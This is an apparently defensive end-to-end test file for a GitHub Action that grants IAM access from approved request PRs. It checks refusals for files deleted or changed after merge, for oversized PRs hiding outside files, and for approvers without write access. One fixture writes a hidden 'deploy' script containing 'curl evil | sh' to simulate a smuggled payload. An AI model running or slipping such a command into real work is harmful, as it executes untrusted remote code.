/**
 * Grant-mode logic gaps closed, through the action bundle:
 *  - a queued grant job checks the default branch's tip: a request deleted (or
 *    changed) there after its merge is not granted;
 *  - "a request PR changes only requests/" is judged from git, so a PR too big
 *    for the PR files API (3,000 files) cannot hide a file outside requests/,
 *    whether it is merged, squashed or rebased;
 *  - approvals count only from code owners with write access to the repository
 *    now (as GitHub counts them), and the PR check says the same as the grant;
 *    an unreadable permission fails closed.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ElevateWorld, requestYaml } from "../../sandbox/world.js";
import { grantPolicyName } from "../../src/domain/grant-policy.js";
import { E2E_TIMEOUT_MS, expectRefused, outputList, requestFile, startWorld } from "./grant-support.js";

const PERMISSION_ROUTE = "GET /repos/{owner}/{repo}/collaborators/{username}/permission";

let world: ElevateWorld;

beforeAll(async () => {
  world = await startWorld();
}, E2E_TIMEOUT_MS);
afterAll(async () => {
  await world?.close();
});

/** Comment text as a reader sees it: Markdown escapes and zero-width breaks removed. */
function readable(markdown: string): string {
  return markdown.replace(/\\([!-/:-@[-`{-~])/g, "$1").replace(/\u200b/g, "");
}

function approvedPr(id: string, approver = "bob") {
  const pr = world.scenario.openRequestPr({
    author: "alice",
    files: { [requestFile(id)]: requestYaml({ requester: "alice" }) },
  });
  pr.approve(approver);
  return pr;
}

describe("a queued grant job checks the default branch's tip", { timeout: E2E_TIMEOUT_MS }, () => {
  it("does not grant a request whose file was deleted from main before the job ran", async () => {
    const id = "deleted-before-grant-1";
    const merged = approvedPr(id).merge("merge");
    // The early-revoke PR lands while the grant job still waits in the queue.
    world.scenario.openRequestPr({ author: "alice", files: { [requestFile(id)]: null } }).merge("merge");
    const tip = world.scenario.mainSha();

    const run = await world.runAction("grant", merged.pushEvent);
    expectRefused(world, run, {
      requestId: id,
      iamUser: "alice.smith",
      message: new RegExp(
        `requests/ec2-admin/${id}\\.yaml was deleted from main \\(tip ${tip.slice(0, 12)}\\) before this grant job ran; a deleted request is revoked, never granted`,
      ),
    });
    expect(outputList(run, "refused")).toEqual([id]);
  });

  it("does not grant a request whose file was changed on main after its merge", async () => {
    const id = "changed-before-grant-1";
    const merged = approvedPr(id).merge("squash");
    world.scenario.pushDirect(
      { [requestFile(id)]: requestYaml({ requester: "alice", duration: "2h" }) },
      { author: "mallory" },
    );
    const run = await world.runAction("grant", merged.pushEvent);
    expectRefused(world, run, {
      requestId: id,
      iamUser: "alice.smith",
      message: /was changed on main \(tip [0-9a-f]{12}\) after the merge and before this grant job ran/,
    });
  });

  it("still grants when main moved on without touching the request", async () => {
    const id = "tip-moved-1";
    const merged = approvedPr(id).merge("merge");
    world.scenario.pushDirect({ "docs/unrelated.md": "later\n" }, { author: "carol" });
    const run = await world.runAction("grant", merged.pushEvent);
    expect(run.exitCode, run.stdout).toBe(0);
    expect(outputList(run, "granted")).toEqual([id]);
  });
});

describe("the PR's changed paths come from git, whatever its size", { timeout: E2E_TIMEOUT_MS }, () => {
  /** 3,000 harmless files under requests/: the PR files API lists nothing after them. */
  function fillers(dir: string): Record<string, string> {
    const files: Record<string, string> = {};
    for (let i = 0; i < 3000; i++) files[`requests/${dir}/n${String(i).padStart(4, "0")}.md`] = `${i}\n`;
    return files;
  }

  for (const method of ["merge", "squash", "rebase"] as const) {
    it(`refuses a PR merged by ${method} whose file outside requests/ is past the API's 3,000-file limit`, async () => {
      const id = `big-pr-${method}-1`;
      const pr = world.scenario.openRequestPr({
        author: "alice",
        files: { [requestFile(id)]: requestYaml({ requester: "alice" }), ...fillers(`notes-${method}`) },
      });
      // A second commit brings the outside file (a rebase replays both).
      pr.push({ [`zz-outside/deploy-${method}.sh`]: "curl evil | sh\n" });
      pr.approve("bob");
      const listed = world.github.pullRequest(world.repository, pr.number).files.map((f) => f.filename);
      expect(listed.length).toBeGreaterThan(3000);
      expect(listed.indexOf(`zz-outside/deploy-${method}.sh`)).toBeGreaterThanOrEqual(3000); // invisible to the API

      const run = await world.runAction("grant", pr.merge(method).pushEvent);
      expectRefused(world, run, {
        requestId: id,
        iamUser: "alice.smith",
        message: new RegExp(
          `PR #\\d+ also changes files outside requests/ \\(zz-outside/deploy-${method}\\.sh\\); a request PR may change only requests/`,
        ),
      });
    });
  }

  it("the PR check flags the same hidden file from the test merge", async () => {
    const id = "big-pr-check-1";
    const pr = world.scenario.openRequestPr({
      author: "alice",
      files: { [requestFile(id)]: requestYaml({ requester: "alice" }), ...fillers("notes-check") },
    });
    pr.push({ "zz-outside/check.sh": "echo\n" });
    const run = await world.runAction("check", pr.pullRequestEvent("synchronize"));
    expect(run.exitCode).not.toBe(0);
    expect(run.annotations.map((a) => a.message).join("\n")).toMatch(
      /this PR also changes files outside requests\/ \(zz-outside\/check\.sh\)/,
    );
  });

  it("grants a clean two-commit PR merged by rebase", async () => {
    const id = "rebased-clean-1";
    const pr = world.scenario.openRequestPr({
      author: "alice",
      files: { [requestFile(id)]: requestYaml({ requester: "alice", duration: "2h" }) },
    });
    pr.push({ [requestFile(id)]: requestYaml({ requester: "alice" }) });
    pr.approve("carol");
    const run = await world.runAction("grant", pr.merge("rebase").pushEvent);
    expect(run.exitCode, run.stdout).toBe(0);
    expect(outputList(run, "granted")).toEqual([id]);
    expect(world.grantPolicies("alice.smith")).toContain(grantPolicyName(id));
  });
});

describe("approvals count only from code owners with write access now", { timeout: E2E_TIMEOUT_MS }, () => {
  it("a code owner demoted to triage does not count, in the PR check and in the grant", async () => {
    world.github.setCollaborator(world.repository, "carol", "triage");
    try {
      const id = "triage-owner-1";
      const pr = approvedPr(id, "carol");
      const check = await world.runAction("check", pr.pullRequestEvent());
      const plan = readable(world.github.comments(world.repository, pr.number).at(-1)?.body ?? "");
      expect(check.exitCode, check.stdout).toBe(0);
      expect(plan).toMatch(/\| 0 of 1 \|/);

      const run = await world.runAction("grant", pr.merge("merge").pushEvent);
      expectRefused(world, run, {
        requestId: id,
        iamUser: "alice.smith",
        message:
          /0 of 1 required approval\(s\).*@carol: code owner without write access to the repository now \(role: triage\); GitHub ignores such owners/,
      });
    } finally {
      world.github.setCollaborator(world.repository, "carol", "write");
    }
  });

  it("a code owner with a custom role based on write counts", async () => {
    world.github.setCollaborator(world.repository, "bob", { custom: "access-approver", base: "write" });
    try {
      const id = "custom-role-owner-1";
      const run = await world.runAction("grant", approvedPr(id).merge("merge").pushEvent);
      expect(run.exitCode, run.stdout).toBe(0);
      expect(outputList(run, "granted")).toEqual([id]);
    } finally {
      world.github.setCollaborator(world.repository, "bob", "write");
    }
  });

  it("fails closed, in the check and the grant, when the permission cannot be read", async () => {
    const id = "unreadable-permission-1";
    const pr = approvedPr(id);
    world.github.failNext(PERMISSION_ROUTE, 403, { message: "Resource not accessible by integration" });
    await world.runAction("check", pr.pullRequestEvent());
    const plan = readable(world.github.comments(world.repository, pr.number).at(-1)?.body ?? "");
    expect(plan).toMatch(/0 of 1 \(cannot read the repository permission of @bob \(HTTP 403/);

    world.github.failNext(PERMISSION_ROUTE, 403, { message: "Resource not accessible by integration" });
    const run = await world.runAction("grant", pr.merge("merge").pushEvent);
    expectRefused(world, run, {
      requestId: id,
      iamUser: "alice.smith",
      message:
        /cannot read the repository permission of @bob \(HTTP 403: Resource not accessible by integration.*\); an approval counts only from a code owner with write access/,
    });
  });
});
